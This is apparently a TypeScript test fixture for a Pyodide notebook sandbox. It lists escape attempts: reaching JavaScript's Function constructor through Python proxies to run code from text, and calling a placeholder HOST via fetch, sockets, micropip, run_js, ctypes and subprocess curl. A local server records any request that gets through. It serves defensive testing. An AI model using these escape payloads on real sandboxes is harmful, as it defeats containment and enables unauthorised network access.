/** What a cell tries to leave by, and a server beside the book's own that must stay unasked. `HOST` stands for that server. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Code of JavaScript that asks the second server, in each way that a worker knows. */
const ASKING = [
  'fetch("http://HOST/fetch")',
  'new XMLHttpRequest().open("GET", "http://HOST/xhr")',
  'new WebSocket("ws://HOST/socket")',
  'import("http://HOST/import.js")',
];

/** Ways to JavaScript's own constructors, and by them to code from text. */
const CONSTRUCTORS = [
  'from pyodide.ffi import to_js\nmake = to_js([1]).constructor.constructor',
  'import _calc\nmake = _calc.make.constructor',
  'import _calc\nmake = _calc.constructor.constructor',
  'from pyodide.ffi import create_proxy\nmake = create_proxy(print).constructor.constructor',
  'from pyodide.ffi import to_js\nmake = to_js({"a": 1}).get.constructor',
  'import pyodide.webloop\nmake = pyodide.webloop.scheduleCallback.constructor',
];

/** Other ways out. */
export const WAYS = [
  'import js\njs.fetch("http://HOST/js")',
  'import pyodide_js\npyodide_js.loadPackage("http://HOST/package.whl")',
  'from pyodide_js import _api',
  'import pyodide_js._module',
  'import sys\nsys.modules["js"].fetch("http://HOST/modules")',
  'from _pyodide._importhook import jsfinder\njsfinder.jsproxies["js"].fetch("http://HOST/finder")',
  'from pyodide.code import run_js\nrun_js("fetch(\'http://HOST/run_js\')")',
  'import asyncio\nfrom pyodide.http import pyfetch\nasyncio.run(pyfetch("http://HOST/pyfetch"))',
  'from pyodide.http import open_url\nopen_url("http://HOST/open_url")',
  'import urllib.request\nurllib.request.urlopen("http://HOST/urllib", timeout=1)',
  'import http.client\nhttp.client.HTTPConnection("HOST", timeout=1).request("GET", "/client")',
  'import socket\nsocket.create_connection(("127.0.0.1", int("HOST".split(":")[1])), timeout=1)',
  'import micropip\nmicropip.install("http://HOST/wheel.whl")',
  'import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch(\'http://HOST/script\')")',
  'import webbrowser\nwebbrowser.open("http://HOST/browser")',
  'import subprocess\nsubprocess.run(["curl", "http://HOST/curl"])',
];

/** Code from text by each constructor, that asks in each way. */
export const ATTEMPTS = CONSTRUCTORS.flatMap((way) => ASKING.map((code) => `${way}\nmake(${JSON.stringify(code)})()`));

/** What becomes of such an attempt. */
export const REFUSED = /EvalError|AttributeError|TypeError|ModuleNotFoundError/;

/** The second server: what it was asked, and a text with its name. */
export interface Elsewhere {
  asked: readonly string[];
  named: (text: string) => string;
  close: () => void;
}

/** Starts it; it lets every page ask. */
export async function listenElsewhere(): Promise<Elsewhere> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { asked, named: (text) => text.replaceAll('HOST', host), close: () => server.close() };
}
